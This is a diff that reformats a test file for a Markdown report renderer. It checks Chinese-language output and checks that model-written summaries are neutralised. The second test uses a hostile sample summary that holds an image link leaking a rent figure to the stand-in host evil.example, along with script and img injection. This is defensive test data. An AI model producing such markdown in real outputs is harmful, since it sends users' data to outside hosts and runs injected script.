@@ -50,8 +50,11 @@ The model reached its limit, so this text ends early.
 
   it('speaks the owner’s language', () => {
     const markdown = reportAsMarkdown(sampleReport({ title: '要点', order: { language: 'zh-CN' } }))
-    expect(markdown).toContain('Contracts & minutes · 2026年11月24日 · 2 份文档 · 1 项未纳入 · 使用的模型：Vendor Small')
-    for (const heading of ['# 要点', '## 总览', '## 各份文档', '## 未纳入的内容']) expect(markdown).toContain(`${heading}\n`)
+    expect(markdown).toContain(
+      'Contracts & minutes · 2026年11月24日 · 2 份文档 · 1 项未纳入 · 使用的模型：Vendor Small',
+    )
+    for (const heading of ['# 要点', '## 总览', '## 各份文档', '## 未纳入的内容'])
+      expect(markdown).toContain(`${heading}\n`)
     expect(markdown).toContain('12 页 · 有 2 页只有图片，未能读取。')
     expect(markdown).toMatch(/\*\*old \\<scan>\.pdf\*\*: \p{Script=Han}+/u)
     expect(markdown).not.toMatch(/errors\.|report\.|\{\{/)
@@ -72,7 +75,8 @@ The model reached its limit, so this text ends early.
   })
 
   it('keeps what a model writes from loading, linking or scripting anything', () => {
-    const summary = 'See ![chart](http://evil.example/a.png?rent=4200) and [this](http://evil.example) <img src=x> <script>alert(1)</script>\n\n[a]: http://evil.example'
+    const summary =
+      'See ![chart](http://evil.example/a.png?rent=4200) and [this](http://evil.example) <img src=x> <script>alert(1)</script>\n\n[a]: http://evil.example'
     const overall = { text: summary, shortened: false }
     const markdown = reportAsMarkdown(sampleReport({ summaries: { overall } }))
     expect(markdown).not.toMatch(/(?<!\\)!?(?<!\\)\[[^\]\\]*\]\(/)
